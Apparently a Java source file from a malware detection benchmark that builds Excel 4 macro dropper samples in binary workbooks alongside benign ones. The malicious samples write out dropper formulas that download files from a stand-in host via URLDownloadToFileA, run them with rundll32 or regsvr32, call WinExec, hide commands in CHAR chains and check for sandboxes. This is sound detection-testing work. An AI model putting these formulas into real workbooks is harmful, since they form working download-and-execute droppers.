package org.peekaboo.bench;

import static org.peekaboo.office.testing.XlsbFiles.HIDDEN;
import static org.peekaboo.office.testing.XlsbFiles.VERY_HIDDEN;
import static org.peekaboo.office.testing.XlsbFiles.VISIBLE;

import java.util.List;
import org.peekaboo.bench.DropperCorpus.Sample;
import org.peekaboo.office.testing.XlsbFiles;

/**
 * Excel 4 macro droppers in binary workbooks (.xlsb) for the detection corpus, and binary
 * workbooks as ordinary people have them. The droppers vary what published XLM droppers vary:
 * the spelling of the trigger name, the payload (EXEC, CALL of URLDownloadToFileA, REGISTER
 * then a call of the registered name, FORMULA writing a formula assembled from CHAR codes) and
 * whether the macro sheet is hidden or very hidden. Only example.invalid is named; nothing here
 * runs, the formulas are text in BIFF12 records.
 */
final class DropperXlsb {
    private static final String DROPPED = "C:\\Users\\Public\\p.dll";

    private DropperXlsb() {
    }

    /** The droppers, then the benign workbooks. */
    static List<Sample> samples() {
        List<Sample> samples = new java.util.ArrayList<>(malicious());
        samples.addAll(benign());
        return samples;
    }

    static List<Sample> malicious() {
        return List.of(
                dropper("xlsb-exec.xlsb", "Auto_Open", VISIBLE,
                        "EXEC(\"cmd /c start http://example.invalid/x\")", "HALT()"),
                dropper("xlsb-call-urlmon-very-hidden.xlsb", "Auto_Open", VERY_HIDDEN,
                        "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://example.invalid/p.bin\",\""
                                + DROPPED + "\",0,0)",
                        "EXEC(\"rundll32 " + DROPPED + ",DllRegisterServer\")", "HALT()"),
                dropper("xlsb-register-kernel32-hidden.xlsb", "_xlnm.Auto_Open", HIDDEN,
                        "REGISTER(\"Kernel32\",\"WinExec\",\"JCJ\",\"Run1\",,1,9)",
                        "Run1(\"cmd /c start http://example.invalid/r\",0)", "HALT()"),
                dropper("xlsb-register-urlmon.xlsb", "auto_open_x7", VERY_HIDDEN,
                        "REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",\"Fetch\",,1,9)",
                        "Fetch(0,\"http://example.invalid/f.bin\",\"" + DROPPED + "\",0,0)",
                        "EXEC(\"regsvr32 /s " + DROPPED + "\")", "HALT()"),
                dropper("xlsb-char-formula.xlsb", "AUTO_OPEN", HIDDEN,
                        "FORMULA(CHAR(61)&CHAR(69)&CHAR(88)&CHAR(69)&CHAR(67)&CHAR(40)&CHAR(34)"
                                + "&\"calc\"&CHAR(34)&CHAR(41),A5)", "GOTO(A5)"),
                dropper("xlsb-char-exec-sandbox-check.xlsb", "Auto_Open", VERY_HIDDEN,
                        "IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)",
                        "EXEC(" + chars("cmd /c calc") + ")",
                        "HALT()"),
                dropper("xlsb-auto-close-fwrite.xlsb", "Auto_Close", VISIBLE,
                        "FWRITELN(FOPEN(\"C:\\Users\\Public\\r.bat\",3),\"start http://example.invalid/b\")",
                        "EXEC(\"C:\\Users\\Public\\r.bat\")", "HALT()"));
    }

    static List<Sample> benign() {
        return List.of(
                new Sample("benign-macros", "xlsb-price-list.xlsb", XlsbFiles.dataOnly()),
                new Sample("benign-macros", "xlsb-auto-open-totals.xlsb", XlsbFiles.xlsb("Auto_Open", VISIBLE,
                        List.of("SELECT(!B2:B40)", "FORMAT.NUMBER(\"#,##0.00\")", "SET.VALUE(!C1,SUM(!B2:B40))",
                                "GET.WORKSPACE(2)", "RETURN()"))),
                new Sample("benign-macros", "xlsb-macro-sheet-no-trigger.xlsb", XlsbFiles.xlsb(null, HIDDEN,
                        List.of("SUM(B2:B40)", "IF(A1>100,ALERT(\"Budget exceeded\"),)", "RETURN()"))));
    }

    /** {@code text} as a chain of CHAR() calls, as obfuscated droppers write their commands. */
    private static String chars(String text) {
        return String.join("&", text.chars().mapToObj(c -> "CHAR(" + c + ")").toList());
    }

    private static Sample dropper(String name, String trigger, int visibility, String... formulas) {
        return new Sample("malicious", name, XlsbFiles.xlsb(trigger, visibility, List.of(formulas)));
    }
}
